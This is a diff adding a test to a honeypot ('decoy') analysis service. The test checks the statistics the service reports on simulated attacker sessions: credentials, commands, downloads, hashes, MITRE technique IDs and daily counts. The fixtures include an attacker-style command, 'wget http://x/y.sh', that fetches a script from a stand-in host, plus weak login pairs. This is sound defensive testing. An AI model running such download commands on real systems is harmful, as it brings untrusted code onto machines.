@@ -191,6 +191,70 @@ describe(DecoyAnalysisService.name, () => {
     expect(techniques).toContain('T1078');
   });
 
+  it("gives a world's statistics: credentials, commands, downloads, hashes, techniques and days", async () => {
+    await createWorld(hub, { id: 'wstats', ownerOrgId: orgs.A });
+    const sha256 = 'a'.repeat(64);
+    const start = new Date('2026-04-01T23:00:00Z');
+    await upload(
+      sessionEvents({
+        world: 'wstats',
+        session: 't1',
+        ip: '203.0.113.30',
+        start,
+        commands: ['uname -a', 'uname -a', 'wget http://x/y.sh'],
+        extra: [{ kind: 'download', url: 'http://x/y.sh', sha256, size: 1234 }],
+      }),
+    );
+    await upload(
+      sessionEvents({
+        world: 'wstats',
+        session: 't2',
+        ip: '203.0.113.31',
+        start: hoursLater(start, 2),
+        username: 'admin',
+        password: 'secret',
+        commands: ['uname -a'],
+      }),
+    );
+    await hub.services.decoyAnalysis.drain();
+
+    const stats = await get('anaA', '/api/v1/decoy/worlds/wstats/stats');
+    expect(stats).toMatchObject({ sessions: 2, sources: 2, authAttempts: 2, authSuccess: 2 });
+    expect(stats.topUsernames).toEqual([
+      { value: 'admin', count: 1 },
+      { value: 'root', count: 1 },
+    ]);
+    expect(stats.topPasswords).toEqual([
+      { value: 'admin', count: 1 },
+      { value: 'secret', count: 1 },
+    ]);
+    expect(stats.topCommands).toEqual([
+      { value: 'uname -a', count: 3 },
+      { value: 'wget http://x/y.sh', count: 1 },
+    ]);
+    expect(stats.countries).toEqual([{ country: null, count: 2 }]);
+    expect(stats.downloads).toEqual([{ url: 'http://x/y.sh', count: 1 }]);
+    expect(stats.hashes).toEqual([{ sha256, count: 1, size: 1234 }]);
+    expect(stats.techniques).toEqual(
+      expect.arrayContaining([
+        { id: 'T1082', count: 2 },
+        { id: 'T1105', count: 1 },
+      ]),
+    );
+    expect(stats.perDay).toEqual([
+      { day: '2026-04-01', sessions: 1, events: 7 },
+      { day: '2026-04-02', sessions: 1, events: 4 },
+    ]);
+    const secondDay = await get('anaA', '/api/v1/decoy/worlds/wstats/stats?from=2026-04-02&to=2026-04-02');
+    expect([secondDay.sessions, secondDay.topUsernames]).toEqual([1, [{ value: 'admin', count: 1 }]]);
+    const bad = await hub.app.inject({
+      method: 'GET',
+      url: '/api/v1/decoy/worlds/wstats/stats?from=yesterday',
+      headers: h.anaA,
+    });
+    expect(bad.statusCode).toBe(400);
+  });
+
   it('records every attacker address as a decoy sighting', async () => {
     await createWorld(hub, { id: 'wsight', ownerOrgId: orgs.A });
     await upload(
